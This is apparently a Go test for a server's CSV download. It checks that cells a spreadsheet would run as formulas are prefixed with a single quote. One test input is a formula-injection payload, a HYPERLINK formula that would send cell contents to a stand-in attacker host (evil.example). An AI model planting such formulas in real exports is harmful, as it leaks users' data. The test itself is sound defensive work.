package server_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// The CSV download writes a cell a spreadsheet would run as a formula
// (a namespace named =HYPERLINK(…), a SQL text starting with -, +, @, a
// tab or a CR) with a leading single quote, numbers as they are, and
// stays CSV a reader splits into the same cells.
func TestConsoleCSVDownloadNeutralizesFormulas(t *testing.T) {
	srv, root := startConsoleServer(t)
	const formula = `=HYPERLINK("https://evil.example/?leak="&A1,"open me")`
	if code, out := root("/v1/namespace/"+url.PathEscape(formula)+"/create", `{}`); code != http.StatusOK {
		t.Fatalf("create %s: %d %s", formula, code, out)
	}
	u := newConsoleUser(t, srv)
	u.login(`{"user": "rob", "password": "rob-pw"}`)
	sql := `SELECT object_id, -5 AS n, '-2+3' AS minus, '+1' AS plus, '@SUM(A1)' AS at, chr(9) || '=1' AS tab, chr(13) || '=1' AS cr, 'a=1' AS plain ` +
		`FROM namespaces`
	q, _ := json.Marshal(sql)
	body := `{"format": "csv", "sql": ` + string(q) + `}`
	var rows [][]string
	deadline := time.Now().Add(15 * time.Second)
	for len(rows) < 2 { // the namespace reaches SQL once its segment is loaded
		code, raw := u.call(http.MethodPost, "/api/sql/download", body, nil)
		if code != http.StatusOK {
			t.Fatalf("csv: %d %s", code, raw)
		}
		var err error
		if rows, err = csv.NewReader(strings.NewReader(string(raw))).ReadAll(); err != nil {
			t.Fatalf("the download is no CSV: %v in %q", err, raw)
		}
		if time.Now().After(deadline) {
			t.Fatalf("the namespace is not in SQL: %q", raw)
		}
		time.Sleep(100 * time.Millisecond)
	}
	want := []string{"'" + formula, "-5", "'-2+3", "'+1", "'@SUM(A1)", "'\t=1", "'\r=1", "a=1"}
	if strings.Join(rows[0], ",") != "object_id,n,minus,plus,at,tab,cr,plain" || len(rows) != 2 || strings.Join(rows[1], "|") != strings.Join(want, "|") {
		t.Fatalf("the download's cells:\n%q\nwant the header and\n%q", rows, want)
	}
}
